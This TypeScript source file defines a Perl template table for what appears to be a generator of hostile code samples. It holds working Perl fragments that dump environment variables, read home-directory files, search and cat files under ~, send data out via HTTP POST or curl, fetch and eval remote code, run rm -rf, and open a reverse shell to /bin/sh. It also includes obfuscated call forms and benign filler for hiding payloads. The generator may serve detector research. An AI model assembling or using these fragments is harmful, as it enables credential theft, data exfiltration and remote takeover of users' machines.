/** Perl 5. */
import { reversed, shortName, toBase64, toHex } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const single = (text: string): string => `'${text.replaceAll("\\", "\\\\").replaceAll("'", "\\'")}'`;

export const PERL: Tongue = {
  language: "perl",
  fetched: ["«LWP::Simple#get»($1)", "HTTP::Tiny->new->get($1)->{content}", "`curl -fsSL ${\\($1)}`"],
  decoders: [
    { encode: toBase64, row: "«MIME::Base64#decode_base64»($1)" },
    { encode: toHex, row: "pack('H*', $1)" },
    { encode: reversed, row: "scalar reverse($1)" },
  ],
  variable: ["$ENV{$1}", "($ENV{$1} // '')"],
  request: [],
  environment: ['join("\\n", map { "$_=$ENV{$_}" } keys %ENV)', "«JSON::PP#encode_json»({%ENV})", "`env`"],
  homeFile: [
    "do { local (@ARGV, $/) = ($ENV{HOME} . '/' . $1); <> }",
    "«File::Slurp#read_file»($ENV{HOME} . '/' . $1)",
    "`cat ~/${\\($1)}`",
  ],
  file: ["do { local (@ARGV, $/) = ($1); <> }"],
  homePath: "$ENV{HOME} . '/' . $1",
  walk: ["join('', map { my $name = $_; `find ~ -maxdepth 4 -name $name | xargs cat` } @{$2})"],
  run: ["«system»($1)", "`${\\($1)}`", "exec($1) unless fork", "open(my $pipe, '|-', 'sh') && print {$pipe} ($1)"],
  runWithOptions: ["«system»('bash', '--noprofile', '--norc', '-c', $1)"],
  evaluate: ["eval($1)", 'eval "no strict; " . $1', "(sub { eval shift })->($1)"],
  send: [
    "HTTP::Tiny->new->post($1, { content => $2 })",
    "«LWP::Simple#get»($1 . '?q=' . $2)",
    "«system»('curl', '-s', '--data-binary', $2, $1)",
  ],
  save: ["do { open(my $out, '>', $1); print {$out} $2; close($out) }"],
  append: ["do { open(my $out, '>>', $1); print {$out} $2; close($out) }"],
  remove: ["«File::Path#remove_tree»($1)", "«system»('rm', '-rf', $1)"],
  setVariable: ["$ENV{$1} = $2"],
  handShell: [
    "do { my $line = IO::Socket::INET->new(PeerAddr => $1, PeerPort => $2); open(STDIN, '<&', $line); open(STDOUT, '>&', $line); exec('/bin/sh', '-i') }",
  ],
  helpers: {},
  quote: single,
  concat: (parts) => (parts.length > 4 ? `join('', ${parts.join(", ")})` : parts.join(" . ")),
  list: (items) => `[${items.join(", ")}]`,
  assign: (name, value) => `my $${name} = ${value};`,
  reference: (name) => `$${name}`,
  define: (name, parameters, row, gives) =>
    `sub ${name} {\n    my (${parameters.map((one) => `$${one}`).join(", ")}) = @_;\n    ${gives === "value" ? "return " : ""}${row};\n}`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => `${expression};`,
  callee(module, name, how) {
    const imports = module === null ? [] : [`use ${module} qw(${name});`];
    if (how === "plain" || module === null) return { text: name, imports };
    if (how === "alias")
      return { text: `$${shortName(name)}->`, imports, before: `my $${shortName(name)} = \\&${name};` };
    return { text: `&{\\&{${single(name.slice(0, 2))} . ${single(name.slice(2))}}}`, imports };
  },
  comment: "#",
  ordinary: {
    definitions: ["sub pad {\n    my ($value, $width) = @_;\n    return sprintf('%0*d', $width, $value);\n}"],
    body: [
      "my %limits = (berth => 12, quay => 40);",
      "my @labels = map { $_ . '-' . pad($limits{$_}, 3) } sort keys %limits;",
    ],
  },
  mayBreak: true,
  aliasesAreLocal: true,
};
